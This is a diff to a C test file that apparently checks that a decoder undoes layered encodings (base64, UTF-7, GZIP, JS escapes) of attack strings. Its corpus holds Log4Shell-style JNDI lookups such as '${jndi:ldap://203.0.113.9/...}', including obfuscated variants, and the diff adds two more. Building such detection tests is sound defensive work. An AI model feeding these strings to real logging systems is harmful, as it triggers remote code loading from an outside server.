@@ -22,6 +22,8 @@ static const struct span corpus[] = {
     SPAN_LITERAL("{\"user\":\"${jndi:ldap://203.0.113.9/?a=1&b=%41+\\\"#<>}\"}"),
     SPAN_LITERAL("${lower:${upper:${lower:${date:'j'}}}ndi:x} ${JnDi:ldap://[2001:db8::1]:99/}"),
     SPAN_LITERAL("${jndi:ldap://203.0.113.9/unclosed"),
+    SPAN_LITERAL("p${jndi:ldap://203.0.113.9/behind-one}"),
+    SPAN_LITERAL("x=${jndi:ldap://203.0.113.9/behind-two}"),
     SPAN_LITERAL("${ jndi:ldap://203.0.113.9/attempt}"),
     SPAN_LITERAL("#{jndi:ldap://203.0.113.9/attempt}"),
     SPAN_LITERAL(
@@ -145,10 +147,20 @@ static bool makes_no_sense(const struct encoder *outer, const struct encoder *in
 {
     if (outer->encoding == ENCODING_UTF7 &&
         (inner->encoding == ENCODING_BASE64 || inner->encoding == ENCODING_BASE64URL ||
-         inner->encoding == ENCODING_RFC2047)) {
+         inner->encoding == ENCODING_GZIP || inner->encoding == ENCODING_RFC2047)) {
         return true;
     }
     return outer->of_characters && inner->encoding == ENCODING_UTF16 && !utf8_is_valid(once);
+}
+
+/* Base64 shows through the outer escapes, and what is unclosed in it is closed by the brace of one
+ * behind it ("\u{3b}"). */
+static bool is_closed_by_escapes(const struct encoder *outer, const struct encoder *inner,
+                                 struct span plain)
+{
+    return span_equal(span_str(outer->name), SPAN("js code points")) &&
+           (inner->encoding == ENCODING_BASE64 || inner->encoding == ENCODING_RFC2047) &&
+           span_find_byte(plain, 0, '}') == SPAN_NONE;
 }
 
 static void every_ordered_pair_is_undone(void)
@@ -161,7 +173,8 @@ static void every_ordered_pair_is_undone(void)
             struct sbuf twice = sbuf_with_cap(CAP);
             inner->encode(corpus[i], &once);
             outer->encode(sbuf_span(&once), &twice);
-            if (!makes_no_sense(outer, inner, sbuf_span(&once))) {
+            if (!makes_no_sense(outer, inner, sbuf_span(&once)) &&
+                !is_closed_by_escapes(outer, inner, corpus[i])) {
                 check(corpus[i], sbuf_span(&twice), outer->name, inner->name);
             }
             sbuf_free(&once);
